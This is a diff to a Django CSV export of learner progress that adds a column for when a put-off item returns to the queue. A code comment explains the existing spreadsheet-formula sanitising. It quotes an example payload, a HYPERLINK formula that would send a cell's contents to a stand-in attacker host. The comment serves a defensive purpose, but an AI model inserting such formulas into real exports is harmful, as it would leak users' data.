@@ -12,7 +12,17 @@ from django.contrib.auth.models import User
 from learn.selectors import LearnerState
 from recommender import selectors as recommender_selectors
 
-COLUMNS = ["title", "address", "state", "rating", "completed_at", "updated_at", "note"]
+# back_in_queue_at: when an item put off with "Not now" comes back to the queue.
+COLUMNS = [
+    "title",
+    "address",
+    "state",
+    "rating",
+    "completed_at",
+    "updated_at",
+    "back_in_queue_at",
+    "note",
+]
 
 # A cell starting with one of these is a formula to spreadsheet programs: a feed entry titled
 # '=HYPERLINK("https://evil.example/?"&A1,"Open")' would run in the learner's spreadsheet.
@@ -44,10 +54,13 @@ def progress_csv(*, user: User) -> str:
             [
                 spreadsheet_safe(row.resource.title),
                 spreadsheet_safe(row.resource.url or ""),
-                LearnerState.of(row).label,  # the pages' words
+                # The pages' words; the day a put-off item comes back has its own column (the
+                # label's "back 11 Dec" has no year).
+                "Not now" if row.later_until else LearnerState.of(row).label,
                 row.rating or "",
                 _when(row.completed_at),
                 _when(row.updated_at),
+                _when(row.later_until),
                 spreadsheet_safe(note.text) if note else "",
             ]
         )
@@ -56,6 +69,7 @@ def progress_csv(*, user: User) -> str:
             [
                 spreadsheet_safe(note.resource.title),
                 spreadsheet_safe(note.resource.url or ""),
+                "",
                 "",
                 "",
                 "",
